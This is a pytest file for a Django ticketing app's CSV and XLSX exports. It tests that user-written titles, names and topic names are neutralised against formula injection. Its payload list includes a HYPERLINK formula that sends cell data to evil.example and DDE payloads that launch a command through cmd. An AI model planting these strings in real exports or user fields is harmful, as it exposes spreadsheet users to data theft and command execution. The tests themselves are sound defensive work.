"""Exports write user text as text (issue 20, class 5): no text a person wrote becomes a formula in the
CSV or XLSX a manager opens — the OWASP CSV-injection rule for CSV, string cells for XLSX — whichever
user-writable field carries it (a ticket's title, a person's display name as requester or assignee, a
topic's name in the dashboard's tables), and whichever export (ticket list, dashboard)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from reports.exports import BOM

pytestmark = pytest.mark.django_db

# Each starts like a formula for some spreadsheet (OWASP's list, plus line feed and full-width forms).
PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "requester": "+cmd|' /C calc'!A0",
    "assignee": "-2+3+cmd|' /C calc'!A0",
    "topic": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "fullwidth": "＝1+1",
}


@pytest.fixture
def exported(make_user):
    """A ticket and a topic whose user-written text is each payload, and a manager to export them."""
    from chat.services import create_topic, post_message
    from requests.services import assign_ticket, create_ticket, transition_ticket

    requester = make_user("ht.requester", centre="HT", display_name=PAYLOADS["requester"])
    assignee = make_user("dn.assignee", centre="DN", display_name=PAYLOADS["assignee"])
    dn_manager = make_user("dn.manager", centre="DN", role="manager")
    ticket = create_ticket(by=requester, title=PAYLOADS["title"], category="security", target_centre="DN")
    transition_ticket(ticket, by=dn_manager, to="accepted")
    assign_ticket(ticket, by=dn_manager, username=assignee.username)
    create_ticket(by=requester, title=PAYLOADS["fullwidth"], category="other", target_centre="DN")
    topic = create_topic(slug="chu-de-la", name_vi=PAYLOADS["topic"], name_en=PAYLOADS["topic"])
    post_message(topic, by=requester, body="xin chào")
    client = Client()
    client.force_login(dn_manager)
    return client


def csv_cells(response) -> list[str]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix(BOM))))
    return [cell for row in rows for cell in row]


def xlsx_cells(response) -> list:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    book = load_workbook(io.BytesIO(raw))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def dangerous(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


EXPORTS = {
    "/tickets/export.{fmt}?sort=created_at": ("title", "requester", "assignee", "fullwidth"),
    "/dashboard/export.{fmt}": ("topic",),
}


@pytest.mark.parametrize("url", EXPORTS)
def test_csv_never_starts_a_cell_with_a_formula_and_keeps_the_text(exported, url):
    cells = csv_cells(exported.get(url.format(fmt="csv")))
    assert [cell for cell in cells if dangerous(cell)] == []
    for name in EXPORTS[url]:
        assert "'" + PAYLOADS[name] in cells, name  # the OWASP prefix, and the text otherwise as written


def test_csv_quotes_every_field(exported):
    raw = b"".join(exported.get("/tickets/export.csv").streaming_content).decode("utf-8").removeprefix(BOM)
    header = raw.splitlines()[0]
    assert header.startswith('"') and header.endswith('"') and '","' in header


@pytest.mark.parametrize("url", EXPORTS)
def test_xlsx_writes_user_text_as_string_cells(exported, url):
    cells = xlsx_cells(exported.get(url.format(fmt="xlsx")))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # not one formula in the workbook
    for name in EXPORTS[url]:
        matching = [c for c in cells if c.value == PAYLOADS[name]]
        assert matching, name  # the text exactly as written …
        assert all(c.data_type == "s" and c.quotePrefix for c in matching), name  # … as quoted text


def test_numbers_and_dates_stay_numbers_and_dates(exported):
    cells = xlsx_cells(exported.get("/dashboard/export.xlsx"))
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in cells)
    dates = xlsx_cells(exported.get("/tickets/export.xlsx"))
    assert any(c.is_date for c in dates)
